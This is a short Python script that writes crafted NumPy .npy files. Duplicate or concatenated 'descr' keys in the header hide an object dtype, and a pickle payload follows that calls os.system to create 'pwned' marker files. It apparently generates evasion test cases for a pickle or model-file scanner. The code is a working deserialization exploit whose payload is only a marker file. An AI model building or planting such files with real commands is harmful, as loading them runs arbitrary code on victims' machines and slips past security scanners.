import struct
def payload(name):
    return b"cos\nsystem\n(S'touch /tmp/rt16/pwned_%s'\ntR." % name.encode()
def npy(header):
    h = header.encode(); pad = 64 - (10 + len(h) + 1) % 64
    h = h + b" "*pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h
dup = "{'descr': '<f4', 'descr': '|O', 'fortran_order': False, 'shape': (1,)}"
open("fn_npy_dupdescr_p0.npy","wb").write(npy(dup) + payload("npy_dupdescr_p0"))
open("fn_npy_dupdescr_p2g.npy","wb").write(npy(dup) + b"\x80\x02" + payload("npy_dupdescr_p2g") + b"cx-\ny\n.")
cat = "{'descr': '<f4', 'de' 'scr': '|O', 'fortran_order': False, 'shape': (1,)}"
open("fn_npy_concat.npy","wb").write(npy(cat) + payload("npy_concat"))
